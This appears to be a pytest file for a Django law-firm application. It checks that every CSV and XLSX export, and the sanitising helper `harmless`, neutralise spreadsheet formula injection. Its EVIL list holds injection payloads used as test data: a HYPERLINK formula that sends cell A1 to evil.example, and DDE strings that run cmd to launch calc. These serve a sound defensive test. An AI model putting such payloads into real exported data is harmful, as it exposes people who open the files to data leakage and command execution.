"""Every file a spreadsheet opens, with names that would be computed: no cell of any of them begins so.

The files are those the addresses answer with; whatever writes one goes through `cabinets.sheets`.
"""

import csv
import io
import re
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from openpyxl import load_workbook

from cabinets.enums import Role
from cabinets.models import Cabinet, Membership
from cabinets.sheets import harmless
from dunning.views.batches import XLSX
from gdpr.services import firm_sheets
from invoices.models import Invoice
from reporting.reports import REPORTS
from tests.architecture.test_urls import PATTERNS
from tests.architecture.test_walk import WORDS, address_of, arguments_of, populate
from tests.conftest import FirmBrowser
from tests.dunning.test_pages_batches import LOT, chosen
from tests.factories.cabinets import make_client, make_contact, make_dossier, make_member
from tests.factories.invoices import make_invoice
from tests.invoices.test_importing import HEADER, bring

Browse = Callable[[Membership | None], FirmBrowser]
ROOT = Path(__file__).resolve().parents[2]
CSV = "text/csv; charset=utf-8"
# Each begins as a formula does, or holds what no workbook may.
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1;"Payer")',
    "=cmd|' /C calc'!A0",
    "+33+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "cloche\x07",
]
COMPUTED = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
# Every address that answers with a sheet.
GIVEN = {
    "journal_csv", "invoices_export", "import_model", "import_faults", "gdpr_register_csv",
    *(f"report_{slug}_{kind}" for slug in REPORTS for kind in ("csv", "xlsx")),
}  # fmt: skip


@pytest.fixture
def firm(cabinet: Cabinet, settings: Any, tmp_path: Path) -> dict[str, uuid.UUID]:
    """Make a firm whose every name is evil."""
    settings.MEDIA_ROOT = tmp_path
    rows = populate()
    lines = [HEADER]
    for rank, evil in enumerate(EVIL):
        client = make_client(company=evil, email=f"{rank}@evil.example", note=evil)
        make_contact(client=client, last_name=evil)
        dossier = make_dossier(client=client, reference=f"{evil[:20]}{rank}", title=evil)
        make_invoice(dossier=dossier, number=f"{evil[:20]}{rank}")
        member = make_member(role=Role.LAWYER)
        member.user.last_name = evil
        member.user.save()
        lines.append(";".join(f'"{cell}"' for cell in [evil.replace('"', '""')] * 10) + "\n")
    Cabinet.objects.filter(pk=cabinet.pk).update(name=EVIL[0], dpo_name=EVIL[0])
    return {**rows, "batch_id": bring("".join(lines)).pk}


def cells_of(kind: str, body: bytes) -> Iterator[str]:
    """Yield every cell a spreadsheet would show."""
    if kind == XLSX:
        for sheet in load_workbook(io.BytesIO(body)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f", cell.value
                # A cell of text is shown as it is; one of a list is never re-read from a typed text.
                yield "" if cell.data_type == "s" and COMPUTED.match(str(cell.value)) else str(cell.value or "")
        return
    for line in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"):
        yield from line


def computed(kind: str, body: bytes) -> list[str]:
    return [cell for cell in cells_of(kind, body) if COMPUTED.match(cell) and not re.fullmatch(r"-?\d+(,\d+)?", cell)]


@pytest.mark.django_db(databases=["default", "owner", "scheduler", "operator"])
def test_no_sheet_an_address_gives_is_computed(firm: dict[str, uuid.UUID], browse: Browse) -> None:
    browser = browse(make_member(role=Role.OWNER))
    found: set[str | None] = set()
    evil: dict[str | None, list[str]] = {}
    empty = []

    for address, entry in PATTERNS:
        names = set(arguments_of(entry))
        if address.startswith("p/<") or any(
            name not in {*firm, *WORDS} and address.split("<")[0] not in firm for name in names
        ):
            continue
        answer = browser.get(address_of(address, entry, firm))
        if (kind := answer.get("Content-Type", "")) in {CSV, XLSX}:
            body = b"".join(answer) if answer.streaming else answer.content
            found.add(entry.name)
            evil |= {entry.name: bad} if (bad := computed(kind, body)) else {}
            empty += [entry.name] if not any(cells_of(kind, body)) else []

    assert (evil, empty) == ({}, [])
    assert found == GIVEN


@pytest.mark.parametrize("written_as", ["csv", "xlsx"])
def test_no_sheet_of_chosen_invoices_is_computed(firm: dict[str, uuid.UUID], browse: Browse, written_as: str) -> None:
    sent = chosen("export", list(Invoice.objects.all()), repondu="1", accord="1", written_as=written_as)

    answer = browse(make_member(role=Role.OWNER)).post(LOT, sent)

    kind = answer["Content-Type"]
    assert kind == (XLSX if written_as == "xlsx" else CSV)
    assert computed(kind, answer.content) == []
    # Its number, its client, its dossier.
    assert sum("HYPERLINK" in cell for cell in cells_of(kind, answer.content)) == 3


def test_no_sheet_of_the_firm_s_copy_is_computed(firm: dict[str, uuid.UUID], cabinet: Cabinet) -> None:
    made = {name: b"".join(parts) for name, parts in firm_sheets.sheets(cabinet)}

    assert {name: computed(CSV, body) for name, body in made.items()} == {name: [] for name in made}
    assert sum("HYPERLINK" in cell for body in made.values() for cell in cells_of(CSV, body)) > 3


@pytest.mark.parametrize("evil", EVIL)
def test_a_cell_is_text_that_nothing_computes(evil: str) -> None:
    assert not COMPUTED.match(harmless(evil))
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", harmless(evil))
    assert harmless(evil).lstrip("'").replace(" ", "\x07") == evil.replace(" ", "\x07")


def test_nothing_else_writes_a_sheet() -> None:
    sources = {
        str(path.relative_to(ROOT)): path.read_text(encoding="utf-8")
        for app in apps.get_app_configs()
        if Path(app.path).parent == ROOT
        for path in Path(app.path).rglob("*.py")
    }

    assert {name for name, text in sources.items() if re.search(r"csv\.(writer|DictWriter)\(", text)} == {
        "cabinets/sheets.py"
    }
    assert {name for name, text in sources.items() if re.search(r"\bWorkbook\(", text)} == {
        "dunning/services/reading/lists.py", "reporting/sheets.py"
    }  # fmt: skip
